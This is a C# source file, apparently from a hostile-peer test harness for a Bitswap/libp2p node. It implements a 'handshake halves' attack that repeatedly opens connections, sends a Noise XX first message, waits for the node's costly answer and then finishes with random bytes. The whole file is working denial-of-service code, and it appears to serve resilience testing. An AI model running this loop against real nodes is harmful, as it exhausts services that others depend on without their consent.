using System.Buffers.Binary;
using System.Net.Sockets;
using System.Security.Cryptography;

namespace Bitswap.Hostile.Attacks;

/// <summary>Begins handshakes, so that the node computes its answer, and ends them with nonsense.</summary>
internal sealed class HandshakeHalves : Attack
{
    // what a dialler sends before it has to wait: two lines of multistream-select, then the first message of Noise XX, a key of 32 bytes
    private const int KeySize = 32;
    private static readonly byte[] _opening = "\u0013/multistream/1.0.0\n\u0007/noise\n"u8.ToArray();

    // the same two lines back, then a key, a sealed key, and a sealed payload that is not empty
    private static readonly int _leastAnswer = _opening.Length + sizeof(ushort) + KeySize + KeySize + 16 + 16;

    public override string Name => "handshake halves";

    public override string Summary => "a Noise handshake up to the node's answer, then a last message of random bytes, again and again";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        byte[] buffer = new byte[4096];
        while (true)
        {
            using TcpClient client = await RawSocket.ConnectAsync(target, cancellationToken);
            NetworkStream stream = client.GetStream();
            await stream.WriteAsync((byte[])[.. _opening, .. Message(KeySize)], cancellationToken);
            await stream.ReadAtLeastAsync(buffer, _leastAnswer, throwOnEndOfStream: false, cancellationToken);
            await stream.WriteAsync(Message(KeySize + 16 + 64), cancellationToken);
            while (await stream.ReadAsync(buffer, cancellationToken) > 0)
            {
            }
        }
    }

    private static byte[] Message(int size)
    {
        byte[] message = RandomNumberGenerator.GetBytes(sizeof(ushort) + size);
        BinaryPrimitives.WriteUInt16BigEndian(message, (ushort)size);
        return message;
    }
}
